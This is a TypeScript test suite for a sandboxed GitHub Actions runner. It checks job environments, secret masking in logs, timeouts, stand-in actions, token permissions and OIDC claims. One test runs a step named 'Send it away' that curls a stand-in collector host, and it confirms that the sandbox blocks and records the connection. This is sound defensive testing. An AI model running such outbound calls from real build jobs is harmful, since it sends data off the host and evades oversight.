/** What a job is like: its environment, its log, its limits, and what its token may do. */
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { openPullAs, pushCommit } from "../../../sandbox/github/index.ts";
import { linesOf, oneJob, path, type Small, startSmall } from "./small.ts";

let small: Small;

beforeAll(async () => {
  vi.stubEnv("SECRET_OF_THE_HOST", "made-up-and-not-for-jobs");
  vi.stubEnv("ANTHROPIC_API_KEY", "made-up-and-not-for-jobs");
  small = await startSmall();
});

afterAll(async () => {
  vi.unstubAllEnvs();
  await small?.close();
});

const script = (text: string) => ({
  uses: "actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd",
  with: { script: text },
});

describe("environment", () => {
  test("has GitHub's variables and none of the host's", async () => {
    const run = await small.runPushed(oneJob([{ run: "env | sort" }, { run: "pwd; ls -a" }]));
    expect(run.conclusion).toBe("success");
    const { log } = run.jobs[0] ?? { log: "" };
    expect(log).not.toContain("made-up-and-not-for-jobs");
    expect(linesOf(log)).toEqual(
      expect.arrayContaining([
        "GITHUB_ACTIONS=true",
        "GITHUB_ACTOR=somebody",
        "GITHUB_EVENT_NAME=push",
        "GITHUB_REF=refs/heads/main",
        "GITHUB_REPOSITORY=acme/app",
        `GITHUB_REPOSITORY_ID=${small.repository.id}`,
        `GITHUB_RUN_ID=${run.id}`,
        `GITHUB_SHA=${run.headSha}`,
        `GITHUB_WORKFLOW_REF=acme/app/${path}@refs/heads/main`,
        "RUNNER_ENVIRONMENT=github-hosted",
        "RUNNER_OS=Linux",
      ]),
    );
    expect(log).not.toContain("README.md");
  });

  test("checks out the commit of the event", async () => {
    const run = await small.runPushed(
      oneJob([
        { uses: "actions/checkout@d23441a48e516b6c34aea4fa41551a30e30af803" },
        { run: "git rev-parse HEAD; cat README.md" },
      ]),
    );
    expect(run.conclusion).toBe("success");
    expect(linesOf(run.jobs[0]?.log ?? "")).toEqual(expect.arrayContaining([run.headSha, "# app"]));
  });
});

describe("log", () => {
  test("gets the secrets of the environment that it names, in place of the repository's", async () => {
    const { secrets } = small.github.state.addEnvironment(small.repository, { name: "production" });
    secrets.set("PLACE", "made-up-environment");
    small.repository.secrets.set("PLACE", "made-up-repository");
    const env = { PLACE: "${{ secrets.PLACE }}" };
    const show = [{ run: 'echo "length ${#PLACE}"', env }];
    const staged = await small.runPushed(oneJob(show, { job: { environment: "Production" } }));
    const plain = await small.runPushed(oneJob(show));
    const lengths = [staged, plain].map((run) => /length \d+/.exec(run.jobs[0]?.log ?? "")?.[0]);
    expect(lengths).toEqual(["length 19", "length 18"]);
  });

  test("hides secrets, each line of them, and what is masked on the way", async () => {
    small.repository.secrets.set("KEY", "first-line\nsecond-line\nthird");
    const env = { KEY: "${{ secrets.KEY }}" };
    const run = await small.runPushed(
      oneJob([
        { name: "Say it", run: 'echo "$KEY" | sed -n 2p; echo "::add-mask::hush-hush"; echo "it is hush-hush"', env },
        { run: 'echo "::notice::look: second-line"; echo "in summary third" >> "$GITHUB_STEP_SUMMARY"', env },
      ]),
    );
    const [job] = run.jobs;
    const text = JSON.stringify(run);
    for (const secret of ["first-line", "second-line", "hush-hush"]) expect(text).not.toContain(secret);
    expect(linesOf(job?.log ?? "")).toEqual(expect.arrayContaining(["***", "it is ***"]));
    expect(job?.annotations).toEqual([{ level: "notice", message: "look: ***" }]);
    expect(job?.summary.trim()).toBe("in summary ***");
  });

  test("has annotations, groups and the exit code of what failed", async () => {
    const run = await small.runPushed(
      oneJob([
        {
          run: "echo '::warning title=Mind::the gap'; echo '::group::G'; echo inside; echo '::endgroup::'; exit 3",
          name: "Fail",
        },
        { run: "echo never" },
        { run: "echo even so", if: "always()" },
      ]),
    );
    const [job] = run.jobs;
    expect(run.conclusion).toBe("failure");
    expect(job?.annotations).toEqual([
      { level: "warning", title: "Mind", message: "the gap" },
      { level: "failure", message: "Process completed with exit code 3." },
    ]);
    expect(job?.steps.map(({ name, conclusion }) => [name, conclusion])).toEqual([
      ["Set up job", "success"],
      ["Fail", "failure"],
      ["Run echo never", "skipped"],
      ["Run echo even so", "success"],
      ["Complete job", "success"],
    ]);
    expect(linesOf(job?.log ?? "")).toEqual(expect.arrayContaining(["##[group]G", "inside", "##[endgroup]"]));
  });
});

describe("the last line of a step", () => {
  test.each([
    ["without an end", "printf 'a\\n\\nlast'", ["a", "", "last"]],
    ["of a step that fails", "echo a; printf last; exit 1", ["a", "last"]],
    ["that is empty", "echo a; echo", ["a", ""]],
    ["of a shell that it starts", "bash -c 'printf one; printf two'", ["onetwo"]],
  ])("is not lost: one %s", async (_, command, expected) => {
    const run = await small.runPushed(
      oneJob([
        { name: "Print", run: command },
        { name: "Next", run: "true", if: "always()" },
      ]),
    );
    const lines = linesOf(run.jobs[0]?.log ?? "");
    const end = lines.findIndex((line) => line === "##[group]Next" || line.startsWith("##[error]"));
    expect(lines.slice(2, end)).toEqual(expected);
  });
});

describe("limits", () => {
  test("a job that takes longer than its minutes is cancelled; its last steps run", async () => {
    const job = { "timeout-minutes": 1 };
    const run = await small.runPushed(
      oneJob([{ run: "sleep 60" }, { run: "echo afterwards", if: "always()" }], { job }),
    );
    expect(run.conclusion).toBe("cancelled");
    expect(run.jobs[0]?.annotations.map(({ message }) => message)).toContain(
      "The job has exceeded the maximum execution time of 1 minute and was cancelled.",
    );
    expect(run.jobs[0]?.steps.map(({ name, conclusion }) => [name, conclusion])).toContainEqual([
      "Run echo afterwards",
      "success",
    ]);
  });

  test("a step that takes longer than its own is ended with all that it started, and fails", async () => {
    const run = await small.runPushed(
      oneJob([{ name: "Sleep", run: "sleep 60 & sleep 60", "timeout-minutes": 1 }, { run: "echo never" }]),
    );
    expect(run.conclusion).toBe("failure");
    expect(run.jobs[0]?.annotations.map(({ message }) => message)).toEqual([
      "The action 'Sleep' has timed out after 1 minutes.",
    ]);
    expect(run.jobs[0]?.steps.map(({ name, conclusion }) => [name, conclusion])).toContainEqual([
      "Run echo never",
      "skipped",
    ]);
  });

  test("an action without a stand-in fails the job", async () => {
    const run = await small.runPushed(oneJob([{ uses: "somebody/unknown@v1" }]));
    expect(run.conclusion).toBe("failure");
    expect(run.jobs[0]?.annotations[0]?.message).toContain("somebody/unknown@v1");
  });

  test("an input that a stand-in does not have fails the job", async () => {
    const run = await small.runPushed(oneJob([{ uses: "actions/checkout@v6", with: { lfs: "true", ref: "main" } }]));
    expect(run.conclusion).toBe("failure");
    expect(run.jobs[0]?.annotations[0]?.message).toBe(
      "The sandbox's stand-in for actions/checkout@v6 does not have the input lfs.",
    );
  });

  test("an action of the repository's own runs after a checkout", async () => {
    const action = JSON.stringify({
      name: "Hello",
      inputs: { who: { default: "nobody" } },
      runs: {
        using: "composite",
        steps: [{ run: "echo hello $WHO", shell: "bash", env: { WHO: "${{ inputs.who }}" } }],
      },
    });
    const steps = [{ uses: "actions/checkout@v6" }, { uses: "./.github/actions/hello", with: { who: "alice" } }];
    const run = await small.runPushed(oneJob(steps), { ".github/actions/hello/action.yml": action });
    expect([run.conclusion, run.jobs[0]?.annotations]).toEqual(["success", []]);
    expect(linesOf(run.jobs[0]?.log ?? "")).toContain("hello alice");
  });

  test("what the sandbox does not run fails the job and says so", async () => {
    const run = await small.runPushed(oneJob([{ run: "true" }], { job: { strategy: { matrix: { n: [1, 2] } } } }));
    expect(run.conclusion).toBe("failure");
    expect(run.jobs[0]?.annotations[0]?.message).toContain("strategy");
  });
});

describe("a connection past Aperture", () => {
  test("is refused, recorded with its step, and fails a job that does not mind", async () => {
    const run = await small.runPushed(
      oneJob([{ name: "Send it away", run: "curl -sS https://collector.example/x || true" }]),
    );
    expect(run.conclusion).toBe("failure");
    expect(small.runner.bypasses).toEqual([
      { host: "collector.example", port: 443, step: "Send it away", repository: "acme/app", run: run.id },
    ]);
    expect(run.jobs[0]?.annotations.map(({ message }) => message)).toEqual([
      "A step went past Aperture: it connected to collector.example, port 443.",
    ]);
    expect(run.jobs[0]?.log).toContain("curl: (6) Could not resolve host: collector.example");
  });
});

describe("the job's token", () => {
  const tryBoth = script(
    `const target = { ...context.repo, issue_number: 1, body: "x" };
     for (const [what, act] of [["read", () => github.rest.repos.getContent({ ...context.repo, path: "README.md" })],
       ["comment", () => github.rest.issues.createComment(target)]])
       await act().then(() => core.info(what + ": yes"), (e) => core.info(what + ": " + e.status));`,
  );
  const answers = (log = "") => linesOf(log).filter((line) => /^(read|comment|id|secret): /.test(line));

  test("may do what permissions say, and nothing without them", async () => {
    openPullAs(small.repository, { author: "alice", head: "first" });
    const results = [];
    for (const permissions of [{ contents: "read", issues: "write" }, { contents: "read" }, {}]) {
      const run = await small.runPushed(oneJob([tryBoth], { permissions }));
      results.push(answers(run.jobs[0]?.log));
    }
    expect(results).toEqual([
      ["read: yes", "comment: yes"],
      ["read: yes", "comment: 403"],
      ["read: 403", "comment: 403"],
    ]);
  });

  const identify = script(
    `await core.getIDToken("aud").then((t) => core.info("id: " + Buffer.from(t.split(".")[1], "base64url").toString()),
       (e) => core.info("id: " + e.message));
     core.info("secret: " + (process.env.KEY ? "there" : "none"));`,
  );
  const everything = { contents: "read", issues: "write", "pull-requests": "write", "id-token": "write" };
  const onPulls = oneJob([{ ...identify, env: { KEY: "${{ secrets.KEY }}" } }, tryBoth], {
    on: { pull_request: null },
    permissions: everything,
  });

  test.each([
    ["of a branch", { author: "alice", head: "own" }, ["secret: there", "read: yes", "comment: yes"]],
    ["of a fork", { author: "forker", fork: true }, ["secret: none", "read: yes", "comment: 403"]],
    ["of Dependabot", { author: "dependabot[bot]" }, ["secret: none", "read: yes", "comment: 403"]],
  ])("for a pull request %s", async (_, pull, expected) => {
    small.repository.secrets.set("KEY", "made-up-secret-of-the-repository");
    await small.runsOf(() => pushCommit(small.repository, "main", { [path]: onPulls }));
    const [run] = await small.runsOf(() => openPullAs(small.repository, pull));
    const [id, ...others] = answers(run?.jobs[0]?.log);
    expect(others).toEqual(expected);
    if (pull.author !== "alice") return expect(id).toContain("ACTIONS_ID_TOKEN_REQUEST_URL");
    expect(JSON.parse(id?.slice(4) ?? "")).toMatchObject({
      aud: "aud",
      event_name: "pull_request",
      run_id: String(run?.id),
      ref: `refs/pull/${run?.pulls[0]}/merge`,
      workflow_ref: `acme/app/${path}@refs/pull/${run?.pulls[0]}/merge`,
      job_workflow_ref: `acme/app/${path}@refs/pull/${run?.pulls[0]}/merge`,
      head_ref: "own",
      base_ref: "main",
      actor: "alice",
    });
  });

  test("is worth nothing when the job is over", async () => {
    const { viewers } = small.github.state;
    expect([...viewers.keys()].filter((token) => token.startsWith("ghs_"))).toEqual([]);
  });
});
